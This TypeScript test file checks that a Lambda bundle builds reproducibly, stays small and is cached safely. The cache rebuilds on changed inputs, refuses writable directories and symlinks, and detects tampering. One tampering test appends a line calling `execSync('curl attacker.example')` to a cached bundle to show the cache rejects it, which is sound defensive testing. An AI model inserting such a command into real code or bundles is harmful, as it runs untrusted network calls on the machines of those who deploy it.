/**
 * A Lambda function's bundle (infra/components/support/lambdaBundle.ts): the target-sync function's is the same
 * bytes from every build and every working directory, read back from a cache directory while its inputs are
 * unchanged, and small (only the function's own modules and the one SDK client it calls); the cache, shown with
 * a small function (lambdaBundle.entry.ts, quick to bundle), builds again when an input, the bundle or the
 * cache's trust changes, and falls back to building in memory.
 */
import assert from "node:assert/strict";
import * as crypto from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { after, before, describe, it } from "node:test";
import {
    bundleOptions,
    CACHE_DIR_ENV,
    cacheDirectories,
    forgetLambdaBundles,
    LambdaBundle,
    lambdaBundle,
    LambdaBundleSpec,
    PACKAGE_ROOT,
} from "../../../infra/components/support/lambdaBundle";
import { TARGET_SYNC_BUNDLE } from "../../../infra/components/targetSync";

const sha256 = (text: string) => crypto.createHash("sha256").update(text).digest("hex");

const scratch: string[] = [];
after(() => {
    for (const dir of scratch) fs.rmSync(dir, { recursive: true, force: true });
});
function tempDir(): string {
    const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "db-endpoints-bundle-test-")));
    scratch.push(dir);
    return dir;
}

/** The small function: this directory's lambdaBundle.entry.ts, which imports infra/net/ip.ts. */
const SMALL: LambdaBundleSpec = { entry: "tests/components/support/lambdaBundle.entry.ts", target: "node24" };

/** A bundle as a new program run gets it, with these cache directories. */
async function fresh(cacheDirectories: string[], spec: LambdaBundleSpec = SMALL): Promise<LambdaBundle> {
    forgetLambdaBundles();
    return lambdaBundle(spec, { cacheDirectories });
}

/** The files of the one entry a cache directory holds: the bundle and its manifest. */
function entry(dir: string): { code: string; manifest: string } {
    const files = fs.readdirSync(dir).sort();
    assert.equal(files.length, 2, `${dir} holds ${files.join(", ")}`);
    assert.match(files[0], /^[0-9a-f]{64}\.js$/);
    assert.equal(files[1], files[0].replace(/\.js$/, ".json"));
    return { code: path.join(dir, files[0]), manifest: path.join(dir, files[1]) };
}

/** The target-sync bundle, and the small one, built without a cache. */
let built: LambdaBundle;
let small: LambdaBundle;
before(async () => {
    built = await fresh([], TARGET_SYNC_BUNDLE);
    small = await fresh([]);
});

describe("the target-sync bundle", () => {
    it("is the same bytes from every build, whatever the working directory", async () => {
        assert.equal(built.source, "build");
        assert.equal(built.cacheFile, undefined);
        assert.equal(built.sha256, sha256(built.code));
        const cwd = process.cwd();
        try {
            process.chdir(tempDir());
            const elsewhere = await fresh([], TARGET_SYNC_BUNDLE);
            assert.equal(elsewhere.source, "build");
            assert.equal(elsewhere.code, built.code);
        } finally {
            process.chdir(cwd);
        }
        // No path of this machine is in it: it reads the same on every machine.
        assert.ok(!built.code.includes(PACKAGE_ROOT), "the bundle names the package's directory");
        assert.ok(!built.code.includes(os.homedir()), "the bundle names the home directory");
    });

    it("exports the handler and the parts the tests and the deployment use", () => {
        const dir = tempDir();
        fs.writeFileSync(path.join(dir, "index.js"), built.code);
        // eslint-disable-next-line @typescript-eslint/no-require-imports
        const loaded = require(path.join(dir, "index.js"));
        for (const name of ["handler", "createHandler", "elbClient", "loadSettings", "classify"]) assert.equal(typeof loaded[name], "function", name);
    });

    it("holds only the function's own modules and the ELBv2 client with what that client needs (the EC2 client is the runtime's)", () => {
        const own = built.inputs.filter((i) => !i.startsWith("node_modules/"));
        assert.deepEqual(own, [
            "infra/lambda/targetSync/expiredRules.ts",
            "infra/lambda/targetSync/expiryWatch.ts",
            "infra/lambda/targetSync/index.ts",
            "infra/lambda/targetSync/log.ts",
            "infra/lambda/targetSync/reconcile.ts",
            "infra/lambda/targetSync/resolve.ts",
            "infra/lambda/targetSync/retry.ts",
            "infra/lambda/targetSync/revocation.ts",
            "infra/lambda/targetSync/settings.ts",
            "infra/net/ip.ts",
            "infra/validation.ts",
        ]);
        const packages = new Set(built.inputs.map((i) => /^node_modules\/((?:@[^/]+\/)?[^/]+)\//.exec(i)?.[1]).filter((p) => p !== undefined));
        assert.ok(packages.has("@aws-sdk/client-elastic-load-balancing-v2"));
        const misplaced = [...packages].filter((p) => p.startsWith("@pulumi/") || p === "esbuild" || (p.startsWith("@aws-sdk/client-") && p !== "@aws-sdk/client-elastic-load-balancing-v2"));
        assert.deepEqual(misplaced, []);
        assert.deepEqual(bundleOptions(TARGET_SYNC_BUNDLE).external, ["@aws-sdk/client-ec2"]);
        assert.ok(built.code.includes('require("@aws-sdk/client-ec2")'), "the revocation duty requires the runtime's EC2 client");
    });

    it("stays under 1.5 MB (0.9 MB with SDK 3.11xx): far below Lambda's 50 MB zipped upload, and little for the engine to hash and store", () => {
        assert.ok(Buffer.byteLength(built.code) < 1.5 * 1024 * 1024, `${Buffer.byteLength(built.code)} bytes`);
    });
});

describe("the bundle cache", () => {
    it("builds once, stores the bundle with every input's SHA-256, and reads it back while the inputs are unchanged", async () => {
        const dir = tempDir();
        const first = await fresh([dir], TARGET_SYNC_BUNDLE);
        assert.equal(first.source, "build");
        const files = entry(dir);
        assert.equal(first.cacheFile, files.code);
        assert.equal(fs.readFileSync(files.code, "utf8"), built.code);
        const manifest = JSON.parse(fs.readFileSync(files.manifest, "utf8"));
        assert.deepEqual(Object.keys(manifest.inputs), built.inputs);
        const ip = "infra/net/ip.ts";
        assert.equal(manifest.inputs[ip], sha256(fs.readFileSync(path.join(PACKAGE_ROOT, ip), "utf8")));
        assert.equal(manifest.output, built.sha256);

        const second = await fresh([dir], TARGET_SYNC_BUNDLE);
        assert.deepEqual({ ...second, inputs: second.inputs.length }, { ...first, source: "cache", inputs: first.inputs.length });
        assert.equal(second.code, built.code);
    });

    it("builds again when an input's content differs from the one the bundle was made from", async () => {
        const dir = tempDir();
        await fresh([dir]);
        const { manifest } = entry(dir);
        const m = JSON.parse(fs.readFileSync(manifest, "utf8"));
        m.inputs["infra/net/ip.ts"] = sha256("an older version of the file");
        fs.writeFileSync(manifest, JSON.stringify(m));
        const again = await fresh([dir]);
        assert.equal(again.source, "build");
        assert.equal(again.code, small.code);
        // ... and stores the new entry in its place.
        assert.equal((await fresh([dir])).source, "cache");
    });

    it("builds again when the cached bundle is not the one its manifest names, or was made by another esbuild", async () => {
        const dir = tempDir();
        await fresh([dir]);
        const { code, manifest } = entry(dir);
        fs.appendFileSync(code, "\nrequire('node:child_process').execSync('curl attacker.example');\n");
        assert.equal((await fresh([dir])).source, "build");
        assert.equal(fs.readFileSync(code, "utf8"), small.code);

        const m = JSON.parse(fs.readFileSync(manifest, "utf8"));
        fs.writeFileSync(manifest, JSON.stringify({ ...m, esbuild: "0.0.1" }));
        assert.equal((await fresh([dir])).source, "build");
    });

    it("trusts no cache directory, bundle or manifest that others can write, nor a link", async () => {
        const dir = tempDir();
        await fresh([dir]);
        const { code } = entry(dir);
        fs.chmodSync(code, 0o666);
        assert.equal((await fresh([dir])).source, "build");

        const open = tempDir();
        fs.chmodSync(open, 0o777);
        const inOpen = await fresh([open]);
        assert.equal(inOpen.source, "build");
        assert.equal(inOpen.cacheFile, undefined, "nothing is written to a directory others can write");
        assert.deepEqual(fs.readdirSync(open), []);

        const link = path.join(tempDir(), "link");
        fs.symlinkSync(dir, link);
        assert.equal((await fresh([link])).source, "build");
    });

    it("writes to the next directory when one cannot be written, and builds in memory when none can", async () => {
        const dir = tempDir();
        const notADirectory = path.join(tempDir(), "file");
        fs.writeFileSync(notADirectory, "");
        const first = await fresh([path.join(notADirectory, "cache"), dir]);
        assert.equal(first.cacheFile, entry(dir).code);
        assert.equal((await fresh([path.join(notADirectory, "cache"), dir])).source, "cache");

        const none = await fresh([path.join(notADirectory, "cache")]);
        assert.deepEqual([none.source, none.cacheFile, none.code === small.code], ["build", undefined, true]);
    });

    it("is one bundle per process: every call of a program run gets the same one", async () => {
        forgetLambdaBundles();
        const dir = tempDir();
        const [a, b] = await Promise.all([lambdaBundle(SMALL, { cacheDirectories: [dir] }), lambdaBundle(SMALL, { cacheDirectories: [dir] })]);
        assert.equal(a, b);
        assert.equal(a.source, "build");
    });
});

describe("the cache directories", () => {
    it("are the package's node_modules/.cache, then the user's cache directory", () => {
        assert.deepEqual(cacheDirectories({ HOME: "/home/me", XDG_CACHE_HOME: "/home/me/.xdg-cache" }, "/opt/db-endpoints"), [
            "/opt/db-endpoints/node_modules/.cache/db-endpoints/lambda",
            "/home/me/.xdg-cache/db-endpoints/lambda",
        ]);
        assert.equal(cacheDirectories({}, "/opt/db-endpoints")[1], path.join(os.homedir(), ".cache", "db-endpoints", "lambda"));
    });

    it(`are only ${CACHE_DIR_ENV} when it is set, and none when it is empty`, () => {
        assert.deepEqual(cacheDirectories({ [CACHE_DIR_ENV]: "/var/cache/ci", XDG_CACHE_HOME: "/x" }, "/opt/db-endpoints"), ["/var/cache/ci"]);
        assert.deepEqual(cacheDirectories({ [CACHE_DIR_ENV]: "" }, "/opt/db-endpoints"), []);
    });
});
